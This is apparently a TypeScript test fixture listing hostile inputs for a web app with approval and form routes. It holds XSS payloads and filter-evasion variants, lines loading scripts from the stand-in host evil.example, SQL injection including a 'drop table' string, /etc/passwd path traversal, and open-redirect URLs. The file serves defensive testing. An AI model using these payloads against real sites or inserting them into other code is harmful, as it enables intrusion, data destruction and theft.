/** What would call this has run: a name that nothing of ours has. */
const RUN = 'danjiBroken=1';

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'marquee',
  'a href=x',
];
const EVENTS = [
  'onerror',
  'onload',
  'ontoggle',
  'onfocus',
  'onstart',
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '&#106;avascript:', 'data:text/html,', 'vbscript:'];
const ODD = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=//evil.example/x.js></script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<form action="//evil.example/"><button autofocus>x</button></form>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<img src="//evil.example/x.png">`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `#{${RUN}}`,
  `\u2028<script>${RUN}</script>`,
  `<ｓｃｒｉｐｔ>${RUN}</ｓｃｒｉｐｔ>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
];

export const HOSTILE: readonly string[] = [
  ...ODD,
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN}>`)),
  ...SCHEMES.flatMap((scheme) => [
    `<a href="${scheme}${RUN}">x</a>`,
    `<img src="${scheme}${RUN}">`,
    `[x](${scheme}${RUN})`,
  ]),
  ...SCHEMES.map((scheme) => `${scheme}${RUN}`),
  ...["' or 1=1 --", "'; drop table document; --", '%', '_', '\\', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd'],
];

/** Addresses that would lead somewhere else. */
export const ELSEWHERE: readonly string[] = [
  '//evil.example',
  '/\\evil.example',
  '/%5Cevil.example',
  '/%2F%2Fevil.example',
  '/%09/evil.example',
  '/javascript:danjiBroken=1',
  '/search?q=%3Cscript%3EdanjiBroken%3D1%3C%2Fscript%3E',
  '/elec-apv/sign-detail/%3Cimg%20src=x%20onerror=danjiBroken=1%3E',
  '/elec-apv/apv-inbox?tab=%22%3E%3Cscript%3EdanjiBroken=1%3C/script%3E&page=-1',
  '/..%2f..%2fetc%2fpasswd',
  '/comm/form-select?type=new&nextPageName=%2F%2Fevil.example&befRoute=javascript%3AdanjiBroken%3D1',
];
